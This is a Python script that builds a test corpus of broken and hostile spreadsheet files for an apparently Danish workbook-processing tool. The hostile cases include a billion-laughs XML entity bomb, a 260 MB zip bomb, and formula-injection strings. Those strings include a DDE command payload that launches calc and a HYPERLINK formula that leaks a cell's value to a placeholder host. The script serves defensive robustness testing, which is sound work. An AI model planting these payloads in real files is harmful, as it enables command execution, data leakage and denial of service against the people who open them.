"""Build the corpus of broken, odd and hostile inputs the commands are tested against.

    python tests/corpus/make_corpus.py DIR

Every file is made here from the real template (or from nothing); no binary is copied in.
The .xls and .ods cases are saved by LibreOffice (the tests' own, tests/office.py); run as a
script without LibreOffice and python3-uno, they are left out.
"""

from __future__ import annotations

import io
import re
import shutil
import sys
import tempfile
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
import xlsxwriter

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

sys.path.insert(0, str(ROOT / "tests"))

import office  # noqa: E402
from conftest import set_cells  # noqa: E402

from xlkompetence.core import examples  # noqa: E402
from xlkompetence.unit.sheettables import MAX_FINDINGS_PER_CODE  # noqa: E402
from xlkompetence.unit.template import write_unit_workbook  # noqa: E402
from xlkompetence.xlsx.patch import CellWrite, Mode, SheetEdits, patch_workbook  # noqa: E402

TODAY = date(2026, 11, 24)
A, B, C, D, E, F = ("Mål og kompetenceprofil", "Kompetencebehov", "Individuelle læringsmål",
                    "Plan for kompetenceudvikling", "Forankring", "Forside")
INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Klik her")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
              "@SUM(1,2)", "=1+1"]
# Rows of junk: ten times the findings listed per kind and sheet, so most must be counted
# instead (findings.more). A bigger sheet proves nothing more.
JUNK_ROWS = 10 * MAX_FINDINGS_PER_CODE


def example(path: Path) -> Path:
    """The concept's example, written once per corpus: every case starts from a copy of it."""
    base = path.with_name("_base.tmp.xlsx")
    if not base.exists():
        write_unit_workbook(base, examples.concept_example(), today=TODAY)
    return Path(shutil.copy(base, path)) if path != base else base


def typed(path: Path, values: dict[tuple[str, str], object]) -> Path:
    """Type into cells as Excel would keep them (an error value through a failing formula)."""
    set_cells(path, values)
    return path


def rezip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> Path:
    """A copy of the package with parts changed (None drops a part) and parts added."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def sheet_part(src: Path, sheet: str) -> str:
    sys.path.insert(0, str(ROOT))
    from xlkompetence.xlsx.package import sheet_parts

    with zipfile.ZipFile(src) as zf:
        return sheet_parts(zf)[sheet]


def with_openpyxl(src: Path, dst: Path, edit: Callable[[openpyxl.Workbook], None]) -> Path:
    """What a person does in Excel, done through openpyxl (it drops nothing our template needs)."""
    wb = openpyxl.load_workbook(src)
    for ws in wb.worksheets:
        ws.protection.sheet = False
    edit(wb)
    wb.save(dst)
    return dst


def build(target: Path, libreoffice: office.LibreOffice | None = None) -> dict[str, Path]:
    target.mkdir(parents=True, exist_ok=True)
    base = example(target / "_base.tmp.xlsx")
    made: dict[str, Path] = {}

    def put(name: str, path: Path) -> None:
        made[name] = path

    # -- not a workbook ----------------------------------------------------------------------
    (target / "tom.xlsx").write_bytes(b"")
    put("empty", target / "tom.xlsx")
    (target / "csv-omdoebt.xlsx").write_text("Nr.;Kompetenceprofil;Ønsket\nK1;Vi skal kunne;5\n", encoding="utf-8")
    put("csv", target / "csv-omdoebt.xlsx")
    png = io.BytesIO()
    png.write(b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 200)
    (target / "billede.xlsx").write_bytes(png.getvalue())
    put("png", target / "billede.xlsx")
    (target / "afbrudt.xlsx").write_bytes(base.read_bytes()[: base.stat().st_size // 3])
    put("truncated", target / "afbrudt.xlsx")
    with zipfile.ZipFile(target / "uden-workbook.xlsx", "w") as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    put("no_workbook", target / "uden-workbook.xlsx")
    import msoffcrypto.format.ooxml

    with base.open("rb") as src, (target / "krypteret.xlsx").open("wb") as dst:
        msoffcrypto.format.ooxml.OOXMLFile(src).encrypt("hemmelig", dst)
    put("encrypted", target / "krypteret.xlsx")
    if libreoffice is not None:
        for fmt, name in (("xls", "gammel.xls"), ("ods", "libreoffice.ods")):
            (saved,) = libreoffice.convert(base, fmt, target)
            put(fmt, saved.rename(target / name))

    # -- hostile -------------------------------------------------------------------------------
    needs_part = sheet_part(base, B)
    bomb = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
            + b"".join(b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
                       for i in range(1, 10))
            + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            + b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    put("billion_laughs", rezip(base, target / "billion-laughs.xlsx", lambda n, d: bomb if n == needs_part else d))
    zip_bomb = target / "zip-bombe.xlsx"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(zip_bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
        with zout.open("xl/media/fyld.bin", "w", force_zip64=True) as fh:
            block = b"\0" * (1024 * 1024)
            for _ in range(260):  # 260 MB of zeros in a few hundred kB
                fh.write(block)
    put("zip_bomb", zip_bomb)
    put("absurd_dimension", rezip(base, target / "dimension.xlsx", lambda n, d: re.sub(
        rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:XFD1048576"/>', d) if n.startswith("xl/worksheets/") else d))
    far = typed(example(target / "fjern-celle.xlsx"), {(D, "XFD1048576"): "langt ude"})
    put("far_cell", far)
    junk = example(target / f"{JUNK_ROWS}-rækker.xlsx")
    edits = SheetEdits({(r, c): CellWrite(f"skrald {r}-{c}" if c != 10 else "???", Mode.OWNED)
                        for r in range(5, 5 + JUNK_ROWS) for c in (1, 3, 10)})
    tmp = junk.with_suffix(".tmp")
    patch_workbook(junk, tmp, {D: edits})
    tmp.replace(junk)
    put("junk_rows", junk)
    links = rezip(base, target / "eksterne-links.xlsx", lambda n, d: d, {
        "xl/externalLinks/externalLink1.xml": b'<?xml version="1.0"?><externalLink xmlns="http://schemas.'
                                              b'openxmlformats.org/spreadsheetml/2006/main"/>'})
    put("external_links", links)
    put("injection", typed(example(target / "formelindsprøjtning.xlsx"), {
        (D, "C5"): INJECTIONS[0], (D, "D5"): INJECTIONS[1], (D, "E5"): INJECTIONS[2], (D, "H5"): INJECTIONS[3],
        (C, "D5"): INJECTIONS[4], (E, "B5"): INJECTIONS[5]}))

    # -- wrong shape -----------------------------------------------------------------------------
    put("sheet_renamed", with_openpyxl(base, target / "ark-omdoebt.xlsx", lambda wb: setattr(wb[B], "title", "Behov")))
    put("sheet_missing", with_openpyxl(base, target / "ark-mangler.xlsx", lambda wb: wb.remove(wb[E])))

    def reorder(wb):
        ws = wb[D]
        ws.move_range("A4:U5", cols=30)
        ws.move_range("AE4:AE5", cols=-30)  # Medarbejdere back to A
        ws.move_range("AF4:AY5", cols=-29)  # the rest one to the right of where they were
    put("headers_reordered", with_openpyxl(base, target / "kolonner-byttet.xlsx", reorder))
    put("header_misspelled", typed(example(target / "stavefejl.xlsx"), {(D, "C4"): "Læringsaktivitt",
                                                                         (B, "C7"): "Team A: Ønsket nivau (1-5)"}))

    def merged(wb):
        ws = wb[D]
        ws.merge_cells("H5:I5")
    put("merged_cells", with_openpyxl(base, target / "flettede-celler.xlsx", merged))

    def no_tables(wb):
        for ws in wb.worksheets:
            for name in list(ws.tables):
                del ws.tables[name]
    put("tables_deleted", with_openpyxl(base, target / "uden-tabeller.xlsx", no_tables))

    def two_headers(wb):
        ws = wb[D]
        ws.insert_rows(5)
        for c in range(1, 17):
            ws.cell(5, c).value = ws.cell(4, c).value
    put("two_header_rows", with_openpyxl(base, target / "to-overskrifter.xlsx", two_headers))

    def hidden(wb):
        ws = wb[B]
        ws.row_dimensions[7].hidden = True
        ws.column_dimensions["D"].hidden = True
        ws.auto_filter.ref = "A5:P45"
        ws.freeze_panes = "D9"
    put("hidden_filters_panes", with_openpyxl(base, target / "skjult-filtre-ruder.xlsx", hidden))

    # -- wrong values ----------------------------------------------------------------------------
    put("levels", typed(example(target / "forkerte-niveauer.xlsx"), {
        # Team A's levels in C and D, Team B's in I and J (the previous round's level, the gap and
        # Team A's priority and reason between).
        (B, "C8"): 0, (B, "D8"): 6, (B, "I8"): 3.5, (B, "J8"): "tre", (B, "C9"): "3 ", (B, "D9"): " 4",
        (B, "I9"): "4-5"}))
    put("dates_text", typed(example(target / "datoer-som-tekst.xlsx"), {
        (E, "E5"): "1/4-2027", (E, "A6"): "Opfølgning 2", (E, "E6"): "1. april 2027", (E, "A7"): "Opfølgning 3",
        (E, "E7"): "2027-04-01", (E, "A8"): "Opfølgning 4", (E, "E8"): "1.4.2027"}))
    wb = xlsxwriter.Workbook(str(target / "1904-datoer.xlsx"), {"date_1904": True})
    # A unit's workbook of the leader's own making: sheet A and E only, dates counted from 1904.
    wa = wb.add_worksheet(A)
    wa.write_row(3, 0, ["Nr.", "Strategi", "Mål", "Kompetenceprofil"])
    wa.write_row(4, 0, ["K1", "Recovery", "Bedre samtaler", "Vi skal kunne MI"])
    ws = wb.add_worksheet(E)
    ws.write_row(3, 0, ["Kompetencebehov/formål", "Fungerer", "Bekymrer", "Aftaler/løsninger", "Næste opfølgning"])
    ws.write_row(4, 0, ["MI i hverdagen", "Godt", "Tid", "Aftale"])
    from datetime import datetime

    ws.write_datetime(4, 4, datetime(2027, 4, 1), wb.add_format({"num_format": "dd-mm-yyyy"}))
    wb.close()
    put("date1904", target / "1904-datoer.xlsx")
    put("negative_resources", typed(example(target / "negative-ressourcer.xlsx"), {(D, "I5"): "-20 timer"}))
    put("error_values", typed(example(target / "fejlvaerdier.xlsx"), {
        (B, "C8"): "#REF!", (B, "F9"): "#DIV/0!", (D, "I5"): "#N/A"}))
    put("odd_text", typed(example(target / "lang-tekst-emoji.xlsx"), {
        (C, "I5"): "Refleksion " * 3000, (C, "D5"): "Mål 🎯 med emoji", (E, "B5"): "מילים בעברית ועربية",
        (D, "C6"): "'Aktivitet med apostrof", (D, "G6"): "Kim"}))
    base.unlink()
    return made


if __name__ == "__main__":
    with tempfile.TemporaryDirectory() as folder:
        if office.missing():
            made = build(Path(sys.argv[1]))
        else:
            with office.LibreOffice(office.uno_python(), Path(folder)) as lo:
                made = build(Path(sys.argv[1]), lo)
    for name, path in made.items():
        print(f"{name:22} {path}")
